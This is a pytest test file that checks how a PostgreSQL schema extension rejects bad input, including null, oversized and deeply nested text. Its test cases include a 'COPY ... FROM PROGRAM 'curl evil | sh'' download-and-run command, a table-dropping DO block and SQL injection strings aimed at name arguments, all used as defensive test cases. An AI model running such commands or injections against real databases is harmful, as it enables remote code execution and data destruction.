"""Bad input gets an `ai_schema:` error with a SQLSTATE and a hint, never a Python traceback."""

import psycopg
import pytest

LONG_NAME = "x" * 200
CASES = {
    "null": (None, "22004", "is NULL"),
    "empty": ("", "22023", "is empty"),
    "blank": ("  \n\t ", "22023", "is empty"),
    "ten_megabytes": ("-- filler\n" + "x" * (10 * 1024 * 1024), "54000", "more than the limit"),
    "syntax": ("CREATE TABLE a (id int);\nCREATE TABLE b (\n  id int,,\n);", "42601", "line 3, column 10"),
    "delete": ("CREATE TABLE t (id int); DELETE FROM t", "0A000", "DELETE FROM is not a schema definition"),
    "insert": ("INSERT INTO t VALUES (1)", "0A000", "not a schema definition"),
    "copy_program": ("COPY t FROM PROGRAM 'curl evil | sh'", "0A000", "not a schema definition"),
    "do_block": ("DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", "0A000", "not a schema definition"),
    "drop": ("DROP TABLE users", "0A000", "not a schema definition"),
    "select": ("SELECT pg_sleep(10)", "0A000", "not a schema definition"),
    "long_identifier": (f"CREATE TABLE {LONG_NAME} (id int)", "42622", "is 200 bytes long"),
    "long_quoted_identifier": (f'CREATE TABLE t ("{LONG_NAME}" int)', "42622", "PostgreSQL's limit is 63"),
    "unknown_table": ("CREATE INDEX ON missing (id)", "42P01", 'table "missing" is not defined'),
    "deep_parentheses": ("CREATE TABLE t (a int CHECK (" + "(" * 20000 + "a > 0" + ")" * 20000 + "))",
                         "42601", "memory exhausted"),
    "deep_expression": ("CREATE TABLE t (a int CHECK (" + "a + (" * 3000 + "1" + ")" * 3000 + " > 0))",
                        "54001", "nested too deeply"),
}


@pytest.mark.parametrize("function", ["ai_parse_schema(%s)", "ai_render_schema(%s)"])
@pytest.mark.parametrize("case", sorted(CASES))
def test_bad_input(conn, function, case):
    text, sqlstate, words = CASES[case]
    with pytest.raises(psycopg.Error) as info:
        conn.execute("SELECT " + function, (text,))
    err = info.value
    if sqlstate:
        assert err.sqlstate == sqlstate
    assert err.diag.message_primary.startswith("ai_schema: ")
    assert words in err.diag.message_primary
    assert err.diag.message_hint, "every error carries a hint"
    for part in (err.diag.message_primary, err.diag.message_detail, err.diag.message_hint, err.diag.context):
        assert "Traceback" not in (part or "")
        assert 'File "' not in (part or "")
    # The backend survived and the session is usable.
    assert conn.execute("SELECT 1").fetchone() == (1,)


def test_position_counts_characters_not_bytes(conn):
    text = "-- café, naïve, 日本\nCREATE TABLE t (\n  é int,\n  x int y\n);"
    with pytest.raises(psycopg.Error) as info:
        conn.execute("SELECT ai_parse_schema(%s)", (text,))
    assert "line 4, column 9" in info.value.diag.message_primary


def test_non_ascii_identifiers_are_fine(conn):
    model = conn.execute("SELECT ai_parse_schema(%s)", ('CREATE TABLE "Bücher" ("Titel" text PRIMARY KEY)',)).fetchone()[0]
    assert model["tables"][0]["name"] == "Bücher"


@pytest.mark.parametrize("platform", ["oracle", "x" * (10 * 1024 * 1024), "postgresql'; DROP TABLE t; --", ""])
def test_bad_platform(conn, platform):
    with pytest.raises(psycopg.Error) as info:
        conn.execute("SELECT ai_render_schema('CREATE TABLE t (id int)', %s)", (platform,))
    err = info.value
    assert err.sqlstate == "0A000"
    assert err.diag.message_primary.startswith('ai_schema: platform "')
    assert len(err.diag.message_primary) < 120, "the input is not echoed in full"
    assert "Supported platforms" in err.diag.message_hint


def test_null_platform_means_the_default(conn):
    rendered = conn.execute("SELECT ai_render_schema('CREATE TABLE t (id int)', NULL)").fetchone()[0]
    assert rendered == "CREATE TABLE t (\n    id integer\n);\n"


# The functions of the advice, sample-data, load-test and export issues, each fed the same bad text
# where it takes a name: a clear ai_schema error with a hint, and the canary table untouched.
NAMED = ["ai_recommend_partitioning(%s, 'canary')", "ai_recommend_partitioning('public', %s)",
         "ai_recommend_denormalization(%s)", "ai_recommend_indexes(%s)", "ai_schema_tables(%s)",
         "ai_load_test_schema(%s, '{\"duration_seconds\": 1}')", "ai_benchmark_schema(%s, 1)",
         "generate_sample_data(%s::text, 5)", "generate_sample_data(%s, NULL, 5, 0)",
         "ai_generate_kafka_schemas(%s)", "ai_export_to_glue_catalog(%s)"]
NAME_CASES = {"null": (None, "22004"), "empty": ("", "22023"), "ten_megabytes": ("x" * (10 * 1024 * 1024), "54000"),
              "injection": ("canary'; DROP TABLE public.canary; --\"", None)}


@pytest.mark.parametrize("function", NAMED)
@pytest.mark.parametrize("case", sorted(NAME_CASES))
def test_bad_names(conn, function, case):
    conn.execute("CREATE TABLE public.canary (id int PRIMARY KEY)")
    text, sqlstate = NAME_CASES[case]
    with pytest.raises(psycopg.Error) as info:
        conn.execute("SELECT * FROM " + function, (text,))
    err = info.value
    assert sqlstate is None or err.sqlstate == sqlstate, err.diag.message_primary
    assert err.diag.message_primary.startswith("ai_schema: ") and err.diag.message_hint
    assert len(err.diag.message_primary) < 400, "the input is not echoed in full"
    for part in (err.diag.message_primary, err.diag.message_detail, err.diag.message_hint, err.diag.context):
        assert "Traceback" not in (part or "")
    assert conn.execute("SELECT count(*) FROM public.canary").fetchone() == (0,)
